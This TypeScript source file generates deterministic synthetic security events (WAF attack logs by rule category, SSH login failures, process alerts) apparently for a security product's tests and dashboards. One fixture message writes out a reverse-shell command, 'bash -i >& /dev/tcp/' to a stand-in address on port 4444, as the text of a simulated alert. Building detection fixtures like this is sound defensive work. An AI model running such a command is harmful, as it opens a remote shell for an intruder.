/**
 * Synthetic ECS documents shaped like what Bulwark's producers send: gateway access events (most
 * requests pass; WAF attacks by CRS class, blocked or detected; rate-limit and IP-list refusals) and
 * host events (SSH failures, process alerts). Deterministic for a seed; used by tests and bench/dashboard.
 */
export interface SyntheticOptions {
  /** events to make */
  count: number;
  /** spread evenly (with jitter) over [from, to) epoch ms */
  from: number;
  to: number;
  seed?: number;
  /** share of gateway requests that are attacks (default 0.2) */
  attackShare?: number;
}

const CATEGORIES = ['sqli', 'xss', 'rce', 'lfi', 'protocol', 'injection-php', 'rfi', 'scanner'] as const;
const RULE_OF: Record<(typeof CATEGORIES)[number], string> = { sqli: '942100', xss: '941100', rce: '932160', lfi: '930120', protocol: '920350', 'injection-php': '933160', rfi: '931100', scanner: '913100' };
const SITES = ['shop', 'api', 'admin', 'blog'];
const PATHS = ['/', '/login', '/search', '/api/v1/orders', '/api/v1/users', '/admin/config.php', '/wp-login.php', '/static/app.js', '/cart', '/checkout'];
const HOSTS = ['web-1', 'web-2', 'db-1', 'bastion'];

/** mulberry32: small, fast, good enough for fixtures. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A skewed pick: low indexes far more often (a few addresses and paths make most of the traffic). */
function skewed<T>(rand: () => number, items: readonly T[]): T {
  return items[Math.min(items.length - 1, Math.floor(items.length * rand() * rand()))] as T;
}

export function syntheticEvents(options: SyntheticOptions): Array<Record<string, unknown>> {
  const rand = prng(options.seed ?? 42);
  const attackShare = options.attackShare ?? 0.2;
  const attackers = Array.from({ length: 40 }, (_, i) => `203.0.113.${i + 1}`);
  const clients = Array.from({ length: 500 }, (_, i) => `198.51.${100 + (i >> 8)}.${i & 255}`);
  const span = options.to - options.from;
  const out: Array<Record<string, unknown>> = [];
  for (let i = 0; i < options.count; i++) {
    const at = new Date(options.from + Math.floor(((i + rand()) * span) / options.count)).toISOString();
    const roll = rand();
    if (roll < 0.9) {
      const attack = rand() < attackShare;
      const site = skewed(rand, SITES);
      const path = skewed(rand, PATHS);
      const base = {
        '@timestamp': at,
        event: { category: 'web', dataset: 'bulwark.gateway', outcome: 'success', type: 'access', kind: 'event' },
        url: { domain: `${site}.example.com`, path },
        http: { request: { method: rand() < 0.8 ? 'GET' : 'POST' }, response: { status_code: 200 } },
        user_agent: { original: 'Mozilla/5.0' },
        bulwark: { site, action: 'proxy', blocked: false },
      };
      if (!attack) {
        out.push({ ...base, source: { ip: skewed(rand, clients) } });
        continue;
      }
      const limit = rand() < 0.08;
      const category = limit ? 'rate limit' : skewed(rand, CATEGORIES);
      const blocked = limit || rand() < 0.85;
      const ruleId = limit ? 'cc:per-ip' : blocked ? 'waf:949110' : `waf:${RULE_OF[category as (typeof CATEGORIES)[number]]}`;
      out.push({
        ...base,
        source: { ip: skewed(rand, attackers) },
        event: { ...base.event, kind: 'alert', type: blocked ? 'denied' : 'access', outcome: blocked ? 'failure' : 'success' },
        http: { ...base.http, response: { status_code: blocked ? (limit ? 429 : 403) : 200 } },
        rule: { id: ruleId, category },
        bulwark: { site, action: blocked ? 'block' : 'proxy', blocked, ...(limit ? {} : { score: 5 + Math.floor(rand() * 20) }) },
      });
    } else if (roll < 0.97) {
      out.push({
        '@timestamp': at,
        message: 'Failed password for invalid user admin',
        event: { category: 'authentication', dataset: 'agent.ssh', action: 'ssh-login-failed', outcome: 'failure', kind: 'event', provider: 'sshd' },
        host: { name: skewed(rand, HOSTS) },
        source: { ip: skewed(rand, attackers) },
        user: { name: 'admin' },
      });
    } else {
      out.push({
        '@timestamp': at,
        message: 'reverse shell: bash -i >& /dev/tcp/203.0.113.9/4444',
        event: { category: 'process', dataset: 'agent.process', kind: 'alert', severity: 73 },
        host: { name: skewed(rand, HOSTS) },
        process: { name: 'bash', pid: 1000 + Math.floor(rand() * 30000) },
        rule: { id: 'BWK-PROC-001', name: 'Reverse shell', category: 'process' },
        threat: { technique: { id: 'T1059.004' } },
      });
    }
  }
  return out;
}
